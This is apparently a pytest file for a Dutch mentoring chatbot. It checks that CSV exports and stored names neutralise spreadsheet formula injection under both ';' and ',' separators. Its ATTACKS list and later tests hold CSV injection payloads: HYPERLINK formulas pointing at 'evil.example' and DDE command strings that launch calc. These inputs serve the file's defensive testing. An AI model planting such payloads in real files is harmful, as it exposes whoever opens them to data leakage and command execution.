"""The CSV export opened the way a spreadsheet opens it: Dutch settings split on ";",
English ones on ","; no cell of either may start a formula. Names are cleaned everywhere,
the alternatives' names as well as the chosen person's."""

from __future__ import annotations

import csv
import io

import pytest
from rasa_sdk import Tracker
from sqlalchemy.orm import Session

from actions.handoff import nomination_from_slots
from bot.coach import coaching
from bot.dialogue import conversation
from tests.coach_helpers import make_coach, make_nomination

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    'ze is lief;=HYPERLINK("http://evil.example")',
    "ze is lief,=1+1",
    "ze is lief; =cmd|' /C calc'!A0",
    "lief\n=2+5",
    "lief\r\n@SUM(1;2)",
    'lief;"=1+1"',
    "+31612345678",
    "-",
    "\t=1",
    "a;+b,-c;@d",
]


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("delimiter", [";", ","])
def test_no_cell_starts_a_formula_with_either_separator(engine, delimiter):
    _coach, _token, team_id = make_coach(engine, "team-csv")
    for attack in ATTACKS:
        make_nomination(
            engine,
            "team-csv",
            youth_name=attack,
            mentor_name=attack,
            mentor_reason=attack,
            mentor_contact=attack,
            alternatives=[
                {"name": attack, "relation": "buurman"},
                {"name": "Jan", "relation": attack},
            ],
        )
    with Session(engine) as session:
        text = coaching.export_csv(session, team_id)
    found = cells(text, delimiter)
    assert len(found) > len(ATTACKS) * 2
    bad = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert bad == []


def test_the_comma_reading_keeps_the_text_readable(engine):
    _coach, _token, team_id = make_coach(engine, "team-csv2")
    make_nomination(engine, "team-csv2", mentor_reason="ze is lief;=1+1", youth_name="Sam")
    with Session(engine) as session:
        rows = list(csv.DictReader(io.StringIO(coaching.export_csv(session, team_id))))
    assert rows[0]["mentor_reason"] == "ze is lief;'=1+1"
    assert rows[0]["youth_name"] == "Sam"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("gewoon tekst", "gewoon tekst"),
        ("=1+1", "'=1+1"),
        ("lief;=1", "lief;'=1"),
        ("lief, -2", "lief,' -2"),
        ("2026-12-04T10:00:00+00:00", "2026-12-04T10:00:00+00:00"),
        (None, ""),
        (15, "15"),
    ],
)
def test_safe_cell(value, expected):
    assert coaching.safe_cell(value) == expected


def test_alternative_names_are_cleaned_like_the_chosen_persons():
    relation, others = conversation.split_people(
        ["oma", "buurman", "tante"], ["Riet", '=HYPERLINK("x")', "ahmed"]
    )
    assert relation == "oma"
    assert others == [
        {"relation": "buurman", "name": None},
        {"relation": "tante", "name": "Ahmed"},
    ]


def test_the_handoff_stores_only_clean_alternatives():
    tracker = Tracker(
        sender_id="conv-alt",
        slots={
            "mentor_name": "Riet",
            "relation": "oma",
            "alternatives": [
                {"name": "=cmd|'/C calc'!A0", "relation": "buurman"},
                {"name": "sanne", "relation": "=1+1"},
                "not a dict",
            ],
        },
        latest_message={},
        events=[],
        paused=False,
        followup_action=None,
        active_loop={},
        latest_action_name=None,
    )
    data = nomination_from_slots(tracker, "v1")
    assert data.alternatives == [
        {"name": None, "relation": "buurman"},
        {"name": "Sanne", "relation": None},
    ]
